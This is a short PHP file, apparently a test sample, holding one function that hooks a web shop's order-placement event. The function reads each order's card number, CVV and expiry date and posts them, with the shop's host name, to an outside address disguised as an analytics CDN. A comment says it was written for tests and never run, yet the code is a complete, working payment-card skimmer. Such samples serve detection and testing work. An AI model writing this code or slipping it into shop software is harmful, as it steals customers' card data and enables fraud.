<?php
// an observer of a shop's order placement that posts the card to a web address and goes
// on without looking at the answer (written for the tests, never run)
function on_order_placed($order)
{
    $p = $order->getPayment();
    $fields = array(
        'n' => $p->getData('cc_number'),
        'c' => $p->getData('cc_cid'),
        'e' => $p->getCcExpMonth() . '/' . $p->getCcExpYear(),
        'h' => $_SERVER['HTTP_HOST'],
    );
    $ch = curl_init();
    curl_setopt($ch, CURLOPT_URL, 'https://analytics-js-cdn.example/collect');
    curl_setopt($ch, CURLOPT_POST, 1);
    curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($fields));
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
    curl_exec($ch);
    curl_close($ch);
}
